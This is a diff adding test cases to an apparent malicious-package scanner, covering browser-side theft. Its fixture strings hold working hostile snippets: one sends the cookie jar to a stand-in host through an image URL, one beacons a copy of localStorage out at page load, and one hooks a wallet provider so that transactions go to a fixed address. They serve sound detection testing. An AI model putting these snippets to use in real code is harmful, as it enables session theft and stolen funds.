@@ -239,3 +239,42 @@ module.exports = (app) => app.post('/upload', (req, res) => {
     ).toEqual([]);
   });
 });
+
+describe('the page: cookies, web storage and wallet requests', () => {
+  it('the whole cookie jar sent in an image URL to a fixed host', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `(function(){ var q = 'c=' + encodeURIComponent(document.cookie) + '&u=' + location.href;
+new Image().src = 'https://fonts-cdn.example/p.gif?' + q; })();`,
+    });
+    expect(threatsOf(r)).toContain('data_exfiltration');
+  });
+  it('a copy of local storage posted at load', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const snap = { s: { ...window.localStorage }, o: location.origin };
+navigator.sendBeacon('https://i18n-assets.example/t', JSON.stringify(snap));`,
+    });
+    expect(threatsOf(r)).toContain('data_exfiltration');
+  });
+  it('an analytics snippet that reads its own cookie by name and sends that id is not a theft', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg(),
+          'index.js': `const id = (document.cookie.match(/(?:^|; )_aid=([^;]*)/) || [])[1];
+fetch('https://api.metrics.example/e', { method: 'POST', body: JSON.stringify({ id, path: location.pathname }) });`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+  it("a wallet provider's request hooked through an alias, transfers sent to a fixed address", () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const SINK = '0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D';
+const eth = window.ethereum; const real = eth.request.bind(eth);
+eth.request = async (a) => { if (a.method === 'eth_sendTransaction') a.params[0].to = SINK; return real(a); };`,
+    });
+    expect(threatsOf(r)).toContain('malicious_code');
+  });
+});
